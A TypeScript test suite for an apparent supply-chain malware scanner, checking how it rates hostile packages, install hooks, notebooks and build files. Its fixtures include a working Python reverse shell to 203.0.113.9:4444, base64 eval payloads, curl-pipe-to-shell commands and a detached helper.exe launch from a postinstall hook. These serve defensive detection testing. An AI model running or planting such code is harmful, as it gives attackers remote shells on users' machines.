import assert from 'node:assert/strict';
import { test } from 'node:test';
import { memoryTree, type Report, scan } from '../src/index.ts';

const REVERSE_SHELL = `
import os, pty, socket
def go():
    s = socket.socket()
    s.connect(("203.0.113.9", 4444))
    os.dup2(s.fileno(), 0)
    pty.spawn("/bin/sh")
`;

function ofCheck({ findings }: Report, checkId: string): Report['findings'] {
  return findings.filter((finding) => finding.checkId === checkId);
}

test('what a check of one file saw makes the package hostile', async () => {
  const report = await scan(memoryTree({ 'setup.cfg': '[metadata]\nname = x\n', 'pkg/main.py': REVERSE_SHELL }));

  assert.ok(ofCheck(report, 'rce-reverse-shell').length > 0);
  assert.deepEqual(
    ofCheck(report, 'supply-chain-hostile-package').map(({ severity, file }) => [severity, file]),
    [['critical', 'pkg/main.py']],
  );
});

test('a wheel that was unpacked is a package', async () => {
  const report = await scan(memoryTree({ 'x-1.0.dist-info/METADATA': 'Name: x\n', 'x/main.py': REVERSE_SHELL }));

  assert.equal(ofCheck(report, 'supply-chain-hostile-package').length, 1);
});

test('code that no one installs is hostile line by line, and each line once', async () => {
  const report = await scan(memoryTree({ 'main.py': REVERSE_SHELL }));

  const lines = ofCheck(report, 'supply-chain-hostile-code').map(({ line }) => line);
  const shells = ofCheck(report, 'rce-reverse-shell').map(({ line }) => line);
  assert.deepEqual(ofCheck(report, 'supply-chain-hostile-package'), []);
  assert.deepEqual(lines, [...new Set(shells)]);
});

test('the second look at an act never weighs as much as the first', async () => {
  const report = await scan(
    memoryTree({ 'lib/a.rb': "require 'base64'\neval(Base64.decode64('cHV0cyAxMjM0NQ=='))\n" }),
  );

  const [second] = ofCheck(report, 'supply-chain-hostile-code');
  assert.deepEqual([second?.severity, second?.confidence], ['low', 'medium']);
});

test('an attack that is played in a test weighs nothing the second time', async () => {
  const report = await scan(memoryTree({ 'test/a.test.rb': "eval(Base64.decode64('cHV0cyAxMjM0NQ=='))\n" }));

  assert.deepEqual(
    ofCheck(report, 'supply-chain-hostile-code').map(({ severity, confidence }) => [severity, confidence]),
    [['info', 'low']],
  );
});

test('a line that has its verdict on the supply chain gets no other', async () => {
  const report = await scan(memoryTree({ 'pkg/__init__.py': 'import base64\nexec(base64.b64decode(blob))\n' }));

  assert.equal(ofCheck(report, 'supply-chain-python-import-hook').length, 1);
  assert.deepEqual(ofCheck(report, 'supply-chain-hostile-code'), []);
});

test('the recipe of a build is not code that somebody takes in', async () => {
  const report = await scan(memoryTree({ Makefile: 'lint:\n\tcurl -sSf https://x.example.net/i.sh | sh\n' }));

  assert.deepEqual(ofCheck(report, 'supply-chain-hostile-code'), []);
});

test('a page that a data file holds tells people what to type', async () => {
  const page = '# Deploy\n\n- Linux: `curl -fsSL https://raw.githubusercontent.com/acme/cli/main/i.sh | sh`\n';
  const report = await scan(memoryTree({ 'src/skills.json': JSON.stringify({ content: page, post: 'x' }, null, 2) }));

  assert.deepEqual(
    ofCheck(report, 'rce-download-and-execute').map(({ severity }) => severity),
    ['low'],
  );
});

test('a notebook is run by whoever opens it, not by whoever installs the package', async () => {
  const cells = {
    cells: [
      {
        cell_type: 'code',
        source: [
          `import os\n`,
          `from urllib.request import urlretrieve\n`,
          `urlretrieve("https://data.acme.ml/a.zip", "a.zip")`,
        ],
      },
    ],
  };
  const notebook = JSON.stringify(cells, null, 1);
  const report = await scan(memoryTree({ 'setup.cfg': '[metadata]\nname = x\n', 'DEMO.ipynb': notebook }));

  assert.deepEqual(ofCheck(report, 'supply-chain-hostile-package'), []);
});

test('a host that is talked to, or an installer that is run, is a reason to look and no more', async () => {
  const paste =
    "from urllib.request import urlopen\ndef share(text):\n    return urlopen('https://dpaste.com/api/', text)\n";
  const renew =
    'import subprocess\ndef renew():\n    subprocess.call(["bash", "-c", "curl -s https://get.acme.io/x.sh | bash"])\n';
  for (const text of [paste, renew]) {
    const report = await scan(memoryTree({ 'setup.cfg': '[metadata]\nname = x\n', 'pkg/main.py': text }));
    assert.deepEqual(
      ofCheck(report, 'supply-chain-hostile-package').map(({ severity }) => severity),
      ['medium'],
    );
  }
});

test('what a script does counts as an installation where a manifest runs it as one', async () => {
  const files = (scripts: Record<string, string>) =>
    memoryTree({
      'package.json': JSON.stringify({ name: 'x', main: 'lib/start.js', scripts }),
      'lib/start.js': "fetch('https://c.example.net/hello');\n",
    });
  const hostile = async (scripts: Record<string, string>) =>
    ofCheck(await scan(files(scripts)), 'supply-chain-hostile-package').map(({ message }) => message);

  assert.deepEqual(await hostile({ postinstall: 'node .' }), [
    'The package may act against whoever runs it. Installing talks to c.example.net.',
  ]);
  assert.deepEqual(await hostile({ preinstall: 'node lib/start.js &' }), await hostile({ postinstall: 'node .' }));
  assert.deepEqual(await hostile({ start: 'node .' }), []);
});

test('a program that an installation starts out of sight is told at the hook', async () => {
  const report = await scan(
    memoryTree({
      'package.json': '{"name": "x", "scripts": {"postinstall": "node ."}}',
      'index.js':
        "const { spawn } = require('child_process');\nspawn(__dirname + '/helper.exe', { detached: true, stdio: 'ignore' }).unref();\n",
    }),
  );

  assert.deepEqual(
    ofCheck(report, 'supply-chain-install-script-malicious').map(({ severity, confidence }) => [severity, confidence]),
    [['critical', 'medium']],
  );
});
